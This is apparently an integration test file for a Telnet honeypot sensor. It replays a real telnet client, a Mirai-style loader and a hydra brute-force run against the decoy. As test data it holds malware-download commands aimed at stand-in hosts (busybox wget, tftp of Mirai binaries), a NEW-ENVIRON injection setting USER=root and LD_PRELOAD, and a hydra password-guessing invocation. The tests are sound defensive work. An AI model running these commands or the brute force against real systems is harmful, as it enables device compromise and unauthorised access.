"""Real clients against the Telnet door: inetutils' ``telnet`` on a pty, a Mirai-style
scanner script, hydra; the shell behind it is the SSH door's (same events, a recording)."""

from __future__ import annotations

import asyncio
import contextlib
import json
import os
import pty
import select
import shutil
import signal
import time
from pathlib import Path

import pytest

from tests.conftest import unavailable
from tests.integration.sensors.telnet.conftest import Door, RawTelnet, start_door

pytestmark = pytest.mark.integration


def telnet_on_pty(port: int, steps: list[tuple[bytes, bytes]], timeout: float = 30) -> bytes:
    """Run ``telnet 127.0.0.1 port`` on a pty: for each (wait_for, send) wait until the
    screen shows ``wait_for`` (after what was already matched), then type ``send``."""
    pid, fd = pty.fork()
    if pid == 0:  # the child: exec the real client
        os.execvp("telnet", ["telnet", "127.0.0.1", str(port)])
    screen = bytearray()
    mark = 0
    try:
        for wait_for, send in steps:
            end = time.monotonic() + timeout
            while (found := screen.find(wait_for, mark)) < 0:
                if time.monotonic() > end:
                    raise AssertionError(f"{wait_for!r} not shown; screen {bytes(screen)[-500:]!r}")
                ready, _, _ = select.select([fd], [], [], 0.2)
                if ready:
                    try:
                        chunk = os.read(fd, 65536)
                    except OSError:
                        chunk = b""
                    if not chunk:
                        raise AssertionError(f"client ended; screen {bytes(screen)[-500:]!r}")
                    screen += chunk
            mark = found + len(wait_for)
            if send:
                os.write(fd, send)
        end = time.monotonic() + 10
        while time.monotonic() < end:  # until the client exits (closed by the door)
            ready, _, _ = select.select([fd], [], [], 0.2)
            if ready:
                try:
                    chunk = os.read(fd, 65536)
                except OSError:
                    break
                if not chunk:
                    break
                screen += chunk
        return bytes(screen)
    finally:
        with contextlib.suppress(ProcessLookupError):
            os.kill(pid, signal.SIGKILL)
        os.waitpid(pid, 0)
        os.close(fd)


async def test_real_telnet_client_logs_in_and_runs_the_shared_shell(door: Door) -> None:
    if shutil.which("telnet") is None:
        unavailable("inetutils-telnet not installed")
    steps = [
        (b"login: ", b"root\r"),
        (b"Password: ", b"nope\r"),
        (b"Login incorrect", b""),
        (b"login: ", b"root\r"),
        (b"Password: ", b"123456\r"),
        (b"# ", b"uname -a\r"),
        (b"# ", b"id\r"),
        (b"# ", b"wget http://203.0.113.9/x.sh\r"),
        (b"# ", b"exit\r"),
    ]
    screen = await asyncio.to_thread(telnet_on_pty, door.port, steps)
    hostname = door.sensor.host.persona.hostname
    assert f"{hostname} login: ".encode() in screen
    assert b"Password: nope" not in screen  # the password is not echoed
    assert b"Last login:" in screen
    assert b"uid=0(root) gid=0(root) groups=0(root)" in screen
    assert b"GNU/Linux" in screen
    assert b"logout" in screen
    cap = door.captured
    await cap.wait_for(lambda c: bool(c.of("connection.closed")))
    attempts = cap.of("auth.attempt")
    assert [(a.username, a.password, a.accepted) for a in attempts] == [
        ("root", "nope", False),
        ("root", "123456", True),
    ]
    assert attempts[0].client_version.startswith("XTERM")  # the client's TTYPE and NAWS
    commands = [c.command for c in cap.of("command.input")]
    assert commands == ["uname -a", "id", "wget http://203.0.113.9/x.sh", "exit"]
    assert all(c.protocol == "telnet" for c in cap.of("command.input"))
    downloads = cap.of("file.download")
    assert [d.url for d in downloads] == ["http://203.0.113.9/x.sh"]
    assert downloads[0].fetched is False
    closed = cap.of("connection.closed")[0]
    assert closed.protocol == "telnet" and closed.recording
    # the recording is a replayable asciicast v2: header, then [time, "o"|"i", text] events
    lines = (door.data_dir / closed.recording).read_text().splitlines()
    header = json.loads(lines[0])
    assert header["version"] == 2 and header["width"] > 0
    events = [json.loads(line) for line in lines[1:]]
    assert all(isinstance(t, float | int) and code in ("o", "i") for t, code, _ in events)
    times = [t for t, _, _ in events]
    assert times == sorted(times)
    shown = "".join(text for _, code, text in events if code == "o")
    assert "uid=0(root)" in shown and "\r\n" in shown
    assert [text for _, code, text in events if code == "i"][:2] == ["uname -a\n", "id\n"]


def mirai(port: int, user: str, password: str, lines: list[str]) -> dict[str, bytes]:
    """What a Mirai-style loader does after its scanner found a login: each probe, its answer."""
    client = RawTelnet(port, "mirai")
    try:
        client.until(b"login: ")
        client.line(user)
        client.until(b"Password: ")
        client.line(password)
        client.until(b"# ")
        answers: dict[str, bytes] = {}
        for line in lines:
            start = len(client.text)
            client.line(line)
            client.until(b"# ")
            answers[line] = bytes(client.text[start:])
        return answers
    finally:
        client.close()


async def test_mirai_style_probes_get_a_debian_host(door: Door) -> None:
    probes = [
        "enable",
        "system",
        "shell",
        "sh",
        "/bin/busybox MIRAI",
        "cat /proc/cpuinfo",
        "echo -e '\\x41\\x42'",
        "/bin/busybox wget http://198.51.100.7/bins/mirai.x86 -O /tmp/m",
        "tftp -g -r mirai.arm 198.51.100.7",
    ]
    answers = await asyncio.to_thread(mirai, door.port, "root", "admin", probes)
    assert b"MIRAI: applet not found" in answers["/bin/busybox MIRAI"]
    assert b"processor\t: 0" in answers["cat /proc/cpuinfo"]
    assert b"AB\r\n" in answers["echo -e '\\x41\\x42'"]
    assert answers["enable"].startswith(b"enable\r\nenable .\r\nenable :\r\n")
    assert b"system: command not found" in answers["system"]
    assert b"shell: command not found" in answers["shell"]
    cap = door.captured
    await cap.wait_for(lambda c: len(c.of("command.input")) >= len(probes))
    urls = [d.url for d in cap.of("file.download")]
    assert "http://198.51.100.7/bins/mirai.x86" in urls
    # nothing was fetched and nothing was written outside the data directory
    assert all(d.fetched is False for d in cap.of("file.download"))
    assert not Path("/tmp/m").exists()


async def test_environment_is_recorded_not_honoured(door: Door) -> None:
    """NEW-ENVIRON USER=root does not log anyone in (telnetd passes no -f to login)."""

    def run() -> bytes:
        client = RawTelnet(door.port, "none")
        try:
            client.read(0.5)
            client.send(b"\xff\xfb\x27")  # WILL NEW-ENVIRON
            client.read(0.5)
            client.send(b"\xff\xfa\x27\x00\x00USER\x01root\x03LD_PRELOAD\x01/tmp/x.so\xff\xf0")
            client.send(b"\xff\xfc\x18\xff\xfc\x20\xff\xfc\x23\xff\xfc\x24")
            client.send(b"\xff\xfc\x01\xff\xfc\x22\xff\xfc\x1f\xff\xfc\x21")
            return client.until(b"login: ", 20)
        finally:
            client.close()

    text = await asyncio.to_thread(run)
    assert text.endswith(b"login: ") and b"# " not in text
    cap = door.captured
    await cap.wait_for(lambda c: len(c.of("session.request")) >= 2)
    targets = sorted(r.target for r in cap.of("session.request"))
    assert targets == ["LD_PRELOAD=/tmp/x.so", "USER=root"]
    assert all(r.request == "env" and not r.accepted for r in cap.of("session.request"))


async def test_idle_shell_times_out_and_slow_login_is_bounded(tmp_path: Path) -> None:
    running, task = await start_door(tmp_path, idle_timeout_s=1.0, login_timeout_s=2.0)
    try:

        def idle() -> tuple[bytes, bytes]:
            a = RawTelnet(running.port, "mirai")
            b = RawTelnet(running.port, "mirai")
            try:
                a.until(b"login: ")
                a.line("root")
                a.until(b"Password: ")
                a.line("root")
                a.until(b"# ")
                shell = a.until(b"auto-logout", 30)
                slow = b.until(b"Login timed out after 2 seconds.\r\n", 30)
                return shell, slow
            finally:
                a.close()
                b.close()

        shell, _slow = await asyncio.to_thread(idle)
        assert b"timed out waiting for input: auto-logout" in shell
        cap = running.captured
        await cap.wait_for(lambda c: len(c.of("connection.closed")) == 2)
        assert sorted(c.reason for c in cap.of("connection.closed")) == ["timeout", "timeout"]
    finally:
        await running.sensor.stop()
        task.cancel()


async def test_slot_limit_per_source_refuses_the_extra_connection(tmp_path: Path) -> None:
    running, task = await start_door(tmp_path, max_per_source=2)
    try:

        def fill() -> tuple[bytes, bytes]:
            held = [RawTelnet(running.port, "mirai") for _ in range(2)]
            try:
                for c in held:
                    c.until(b"login: ")
                extra = RawTelnet(running.port, "mirai")
                got = extra.read(2.0)
                extra.close()
                other = RawTelnet(running.port, "mirai", source="127.0.0.9")
                ok = other.until(b"login: ")
                other.close()
                return got, ok
            finally:
                for c in held:
                    c.close()

        got, ok = await asyncio.to_thread(fill)
        assert got == b""  # closed without a byte, like a full inetd
        assert ok.endswith(b"login: ")
    finally:
        await running.sensor.stop()
        task.cancel()


@pytest.mark.slow
async def test_hydra_telnet_finds_the_password(door: Door, tmp_path: Path) -> None:
    if shutil.which("hydra") is None:
        unavailable("hydra not installed")
    words = tmp_path / "words"
    words.write_text("123456\n")  # hydra re-sends odd lines after a failure on one connection
    proc = await asyncio.create_subprocess_exec(
        "hydra", "-l", "root", "-P", str(words), "-t", "1", "-w", "15", "-f",
        "-s", str(door.port), "127.0.0.1", "telnet",
        stdout=asyncio.subprocess.PIPE, stderr=asyncio.subprocess.STDOUT,
    )  # fmt: skip
    async with asyncio.timeout(180):
        out, _ = await proc.communicate()
    text = out.decode(errors="replace")
    attempts = [(a.password, a.accepted) for a in door.captured.of("auth.attempt")]
    assert "login: root   password: 123456" in text, (text, attempts)
    assert "1 valid password found" in text
    attempts = door.captured.of("auth.attempt")
    assert any(a.password == "123456" and a.accepted for a in attempts)
